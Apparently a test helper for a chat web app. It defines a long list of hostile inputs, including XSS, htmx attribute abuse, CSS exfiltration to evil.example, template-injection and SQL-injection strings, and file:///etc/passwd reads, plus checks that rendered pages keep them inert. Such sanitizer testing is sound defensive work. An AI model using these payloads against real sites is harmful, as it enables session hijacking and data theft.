"""What people type who mean no good, and what must not come of it."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

Skeleton = list[tuple[str, list[str]]]

_LINES = r'''
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
</bdi></span></div></li></ol><script>alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script
<script/x>alert(1)//
<!--<script>alert(1)//-->
--><script>alert(1)</script>
]]><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
<?php echo 1 ?><?xml version="1.0"?>
<img src=x onerror=alert(1)>
<IMG """><SCRIPT>alert(1)</SCRIPT>">
<img src=`x`onerror=alert(1)>
<img/src='x'/onerror='alert(1)'/>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<body onload=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>">
<object data="data:text/html,<script>alert(1)</script>">
<embed src=//evil.example/x.swf>
<link rel=stylesheet href=//evil.example/x.css>
<style>*{background:url(//evil.example)}</style>
<meta http-equiv=refresh content="0;url=//evil.example">
<base href="//evil.example/">
<form action="//evil.example"><input name=password autofocus onfocus=alert(1)>
<button formaction=javascript:alert(1)>x</button>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<marquee onstart=alert(1)>x</marquee>
<x contenteditable onblur=alert(1)>x</x>
<div style="position:fixed;inset:0">x</div>
<div hx-get="/logout" hx-trigger="load">x</div>
<a hx-post="/devices/revoke-others" hx-trigger="mouseover">x</a>
<div data-hx-delete="/chats/1" data-hx-trigger="load">x</div>
<hx-partial hx-target="body" hx-swap="innerHTML">x</hx-partial>
<template hx type="partial"><b>x</b></template>
<div hx-on:click="alert(1)" hx-ws:connect="//evil.example">x</div>
" onmouseover="alert(1)
' onmouseover='alert(1)
" autofocus onfocus=alert(1) x="
"><script>alert(1)</script>
'><script>alert(1)</script>
x" hx-get="/logout" hx-trigger="load
x onclick=alert(1) y
`onmouseover=alert(1)`
javascript:alert(1)
JaVaScRiPt:alert(1)
java	script:alert(1)
[x](javascript:alert(1))
data:text/html;base64,PHNjcmlwdD4=
vbscript:msgbox(1)
https://example.org/"onmouseover="alert(1)
https://example.org/'onmouseover='alert(1)
https://example.org/<script>alert(1)</script>
http://javascript:alert(1)@example.org/%22%3E%3Cscript%3E
https://example.org/x?a=1&lt=2&quot;onclick=alert(1)
mailto:"><script>alert(1)</script>@example.org
*<b onclick=alert(1)>* _<i>_ ~<s>~
```<script>alert(1)</script>```
`<script>alert(1)</script>`
> <script>alert(1)</script>
- <img src=x onerror=alert(1)>
1. <img src=x onerror=alert(1)>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3C;img src=x onerror=alert(1)&#x3E;
\u003cscript\u003ealert(1)\u003c/script\u003e
%3Cscript%3Ealert(1)%3C/script%3E
＜script＞alert(1)＜/script＞
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
{{ 7 * 7 }} {% raw %} {# x #}
{{ self.__init__.__globals__ }}
${7*7} #{7*7} <%= 7*7 %>
%s%n%x {0} {nonce}
'; DROP TABLE users; --
x" y='z' <w> & © \ / ` $ {} [] () ;
<img src=x: onerror=&#97;lert(1)>
<img src=1 href=1 onerror="javascript:alert(1)">
<img srcset="//evil.example/1.png 1x">
<image href=x onerror=alert(1)>
<input type=image src=//evil.example/x.png>
<audio src=x onerror=alert(1)></audio>
<video poster=//evil.example/p.png autoplay>
<track src=//evil.example/x.vtt onload=alert(1)>
<picture><source srcset=//evil.example/p.png></picture>
<textarea autofocus onfocus=alert(1)>
<frameset onload=alert(1)><frame src=javascript:alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><img src=x onerror=alert(1)></noembed>
<xmp><img src=x onerror=alert(1)></xmp>
<plaintext><script>alert(1)</script>
<template><script>alert(1)</script></template>
<slot onslotchange=alert(1)><b slot=x>x</b></slot>
<dialog open oncancel=alert(1)>x</dialog>
<table background=//evil.example/x.png><td>x</table>
<a href="javascript:alert(1)">x</a>
<a href=javascript&colon;alert(1)>x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="  javascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a ping=//evil.example href=/>x</a>
<a target=_top href=//evil.example>x</a>
<area href=javascript:alert(1)>
<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>
<form action=/logout method=post><button autofocus>x</button></form>
<input form=composer name=body value=pwned>
<label for=composer>x</label>
<style>@import "//evil.example/x.css";</style>
<style>input[value^=a]{background:url(//evil.example/a)}</style>
<link rel=preload as=script href=//evil.example/x.js>
<link rel=dns-prefetch href=//evil.example>
<meta http-equiv=Content-Security-Policy content="default-src *">
<meta name=referrer content=unsafe-url>
<meta name=htmx-config content='{"extensions":"evil"}'>
<x style="background:url(javascript:alert(1))">
<x style="width:expression(alert(1))">
color:red;background:url(//evil.example)
}*{background:url(//evil.example)}
*/;}</style><img src=x onerror=alert(1)>/*
\3c img src=x onerror=alert(1)\3e
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=onmouseover to=alert(1)>
<svg><use href="data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x"/>
<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><image href=//evil.example/x.svg></svg>
<svg><title><img src=x onerror=alert(1)></title></svg>
<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>
<svg/onload=alert(1)//
<math href="javascript:alert(1)">x</math>
<math><maction actiontype="statusline#//evil.example" xlink:href="javascript:alert(1)">x</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<!--
<!-->
<!--><img src=x onerror=alert(1)>
<!--[if IE]><script>alert(1)</script><![endif]-->
<!doctype html><html><body onload=alert(1)>
<!ENTITY x SYSTEM "file:///etc/passwd">
<%00script>alert(1)</script>
</script><script>alert(1)</script>
</template></dialog></main><script>alert(1)</script>
</select></option></button></label><img src=x onerror=alert(1)>
</hx-partial><hx-partial hx-target="body">x</hx-partial>
<div hx-on::load="alert(1)">x</div>
<div hx-swap-oob="true" id="composer">x</div>
<div hx-get="//evil.example" hx-trigger="load" hx-target="body">x</div>
<div hx-post="/logout" hx-trigger="every 1s">x</div>
<div hx-vals='js:{x: alert(1)}' hx-get="/" hx-trigger="load">x</div>
<div hx-boost:inherited="false" hx-config="{}">x</div>
<div data-hx-on:click="alert(1)" ws-connect="//evil.example">x</div>
<message-list data-chat="1"></message-list><poll-card></poll-card>
<b id=toasts></b><b id=sheet data-close></b><b data-copy=composer>x</b>
<button data-retry data-discard data-select=x data-reply=x>x</button>
" hx-on:click="alert(1)" x="
' hx-swap-oob='innerHTML:body
" style="position:fixed;inset:0" x="
" class="bubble__menu" href="javascript:alert(1)
" formaction="javascript:alert(1)" type="submit
"></title><svg onload=alert(1)>
"/><img src=x onerror=alert(1)>
" id="chat-1-messages
\" onmouseover=alert(1) x=\"
\'-alert(1)-\'
';alert(1);//
";alert(1);//
</textarea><img src=x onerror=alert(1)>
javascript://example.org/%0aalert(1)
javascript&#58;alert(1)
feed:javascript:alert(1)
file:///etc/passwd
blob:https://example.org/x
//evil.example/x
\\evil.example\x
https://evil.example@example.org/<svg/onload=alert(1)>
https://example.org/?q="><script>alert(1)</script>
https://example.org/#"><img src=x onerror=alert(1)>
www.example.org/"><script>alert(1)</script>
{% include "/etc/passwd" %}{% import os %}
{{ config }} {{ request.app.state.settings }}
{{ ''.__class__.__mro__[1].__subclasses__() }}
ＪＡＶＡＳＣＲＩＰＴ：alert(1)
‹script›alert(1)‹/script› ˂img src=x˃ ʺ onload=alert(1) ʹ
&lt;img src=x onerror=alert(1)&gt; &amp;lt;b&amp;gt;
'''.strip().split("\n")
HOSTILE = [
    *_LINES,
    "\u202e<script>alert(1)</script>\u202c",  # read backwards
    "\u2066<b onclick=alert(1)>\u2069",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",  # with nothing in between
    "\ufeff<script>alert(1)</script>",
    "<img\u00a0src=x\u3000onerror=alert(1)>",  # blanks that are none
    "<img\tsrc=x\tonerror=alert(1)>",
    "\u2028<script>alert(1)</script>\u2029",
    "<\u0301script>alert(1)</script>",
    "\U000e003cscript\U000e003e",
]
HARMLESS = "Harmless"
# What an escaped page cannot have in it as it was typed.
RAW = [text for text in HOSTILE if set(text) & set("<\"'") and len(text) > 8]
FORBIDDEN = ["iframe", "object", "embed", "base", "style", "math", "frame", "frameset", "plaintext", "x"]
ADDRESSES = ["href", "src", "srcset", "action", "formaction", "poster", "xlink:href", "hx-get", "hx-post"]
LEADING = ("http:", "https:", "mailto:")
TYPED = {
    **{tag: set[str]() for tag in ("p", "br", "b", "i", "s", "code", "blockquote", "ul", "ol")},
    "pre": {"tabindex"},
    "li": {"value"},
    "a": {"href", "target", "rel"},
}
# Somebody who is named in a message.
NAMED = {"a": {"class", "data-mention", "href"}, "span": {"class", "data-mention"}, "bdi": {"data-name-of"}}
IN_BODY = {("class", "bubble__body"), ("class", "votes__question")}


class Page(HTMLParser):
    """What a browser would make: elements of the templates, and those inside what somebody said."""

    def __init__(self) -> None:
        super().__init__()
        self.made: list[tuple[str, dict[str, str | None]]] = []
        self.typed: list[tuple[str, dict[str, str | None]]] = []
        self.within = ""  # the element around what somebody said

    @classmethod
    def of(cls, html: str) -> Page:
        page = cls()
        page.feed(html)
        page.close()
        return page

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        (self.typed if self.within else self.made).append((tag, dict(attrs)))
        if IN_BODY & {*attrs}:
            self.within = tag

    def handle_endtag(self, tag: str) -> None:
        self.within = "" if tag == self.within else self.within

    def handle_comment(self, data: str) -> None:
        self.made.append((f"!--{data}", {}))

    def handle_decl(self, decl: str) -> None:
        self.made.append((f"!{decl}", {}))

    def handle_pi(self, data: str) -> None:
        self.made.append((f"?{data}", {}))

    def unknown_decl(self, data: str) -> None:
        self.made.append((f"![{data}", {}))

    @property
    def skeleton(self) -> Skeleton:
        return [(tag, sorted(attributes)) for tag, attributes in self.made]


def assert_inert(html: str, skeleton: Skeleton) -> None:
    """Nothing is there that is not there for harmless words, but the marks and links of messages."""
    page = Page.of(html)
    assert page.skeleton == skeleton
    for tag, attributes in page.typed:
        allowed = NAMED if "data-mention" in attributes or "data-name-of" in attributes else TYPED
        assert attributes.keys() <= allowed[tag], tag
        if tag == "a" and allowed is TYPED:
            assert urlsplit(attributes["href"] or "").scheme in ("http", "https", "mailto")
    assert_harmless(page)


def assert_safe(html: str) -> None:
    """The same of what has no harmless form to be compared with: no text stands in it raw."""
    assert_harmless(Page.of(html))
    assert not (raw := [text for text in RAW if text in html]), raw


def assert_harmless(page: Page) -> None:
    """Nothing in it runs, loads from elsewhere, or leads to where only we may lead."""
    for tag, attributes in page.made + page.typed:
        assert tag not in FORBIDDEN, tag
        assert tag != "script" or {"src", "nonce"} <= attributes.keys(), attributes
        for name, value in attributes.items():
            assert not name.startswith("on"), name
            assert name not in ("style", "srcdoc", "ping", "background"), name
            assert not name.startswith(("hx-", "data-hx-", "ws-")) or not re.search("evil|alert", value or ""), name
            if name in ADDRESSES:
                assert (value or "#")[0] in "/#?" or (tag == "a" and value.startswith(LEADING)), (tag, name, value)  # type: ignore[union-attr]
                assert not (value or "").startswith("//"), value
